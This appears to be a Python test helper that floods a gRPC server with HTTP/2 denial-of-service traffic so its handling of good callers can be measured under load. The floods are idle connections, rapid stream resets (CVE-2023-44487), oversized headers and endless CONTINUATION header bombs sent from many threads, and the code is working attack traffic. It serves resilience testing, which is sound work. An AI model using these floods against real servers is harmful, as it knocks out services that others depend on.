# SPDX-License-Identifier: Apache-2.0
"""Floods, each in a process of its own so that good callers are measured alone: floods.py NAME ADDRESS.
Prints "begun" once it is made, "held" when all of it stands, and holds it until its standard input ends."""

import contextlib
import struct
import sys
import threading

import http2

WATCH = "/exportqueue.v1.ExportService/WatchJob"
RESETS, RESETS_EACH, AT_ONCE = 100_000, 20_000, 200
TOO_LARGE = 5_000
SILENT = 200
BOMBS, BOMB_BYTES = 20, 2_000_000
CHUNK = 16_000


def begin():
    print("begun", flush=True)


def silent(address):
    """Connections that open and say nothing."""
    begin()
    return [http2.Connection(address, hello=b"") for _ in range(SILENT)]


def reset_calls(first, count):
    """Calls that are opened and reset at once (CVE-2023-44487), by the numbers of their streams."""
    fields = http2.call_fields(path=WATCH)
    return b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, stream, fields)
        + http2.frame(http2.DATA, http2.END_STREAM, stream, http2.message())
        + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(2 * first + 1, 2 * (first + count), 2))


def resets(address):
    """Many of them, on a new connection whenever the server has had enough of one. Made beforehand, so that the server
    gets them as fast as it can take them."""
    portions = [reset_calls(first, AT_ONCE) for first in range(0, RESETS_EACH, AT_ONCE)]
    begin()
    connections, sent = 0, 0
    while sent < RESETS:
        connection = http2.Connection(address)
        connections += 1
        with contextlib.suppress(OSError):  # cut off
            for portion in portions:
                connection.send(portion)
                sent += AT_ONCE
        connection.close()
    print("%d connections reset %d calls" % (connections, sent), file=sys.stderr)
    return []


def headers_beyond_the_limit(address):
    """Calls whose headers are too large, one after the other."""
    fields = http2.call_fields(more=[("x-%d" % i, "y" * 1000) for i in range(20)])
    begin()
    connection = http2.Connection(address)
    for call in range(TOO_LARGE):
        first, rest = fields[:CHUNK], fields[CHUNK:]
        connection.send(http2.frame(http2.HEADERS, http2.END_STREAM, 2 * call + 1, first)
                        + http2.frame(http2.CONTINUATION, http2.END_HEADERS, 2 * call + 1, rest))
        connection.ended(2 * call + 1)
    return [connection]


def bombs(address, is_acknowledged=False):
    """Headers without end, in continuations: a huge one, or very many."""
    blocks = [http2.call_fields(more=(("x-filling", "y" * BOMB_BYTES),)),
              http2.call_fields(more=[("x-%d" % i, "y" * 100) for i in range(BOMB_BYTES // 100)])]
    held = []

    def throw(block):
        connection = http2.Connection(address)
        held.append(connection)
        if is_acknowledged:
            next(kind for kind, *_ in connection.frames() if kind == http2.SETTINGS)
            connection.send(http2.frame(http2.SETTINGS, http2.ACK))
        with contextlib.suppress(OSError):  # the server had enough of it
            for at in range(0, len(block), CHUNK):
                kind = http2.CONTINUATION if at else http2.HEADERS
                connection.send(http2.frame(kind, 0, 1, block[at:at + CHUNK]))
    begin()
    threads = [threading.Thread(target=throw, args=(blocks[i % 2],)) for i in range(BOMBS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return held


def bombs_of_those_who_know_the_limit(address):
    return bombs(address, is_acknowledged=True)


if __name__ == "__main__":
    kept = {each.__name__: each for each in (silent, resets, headers_beyond_the_limit, bombs,
                                             bombs_of_those_who_know_the_limit)}[sys.argv[1]](sys.argv[2])
    print("held", flush=True)
    sys.stdin.read()
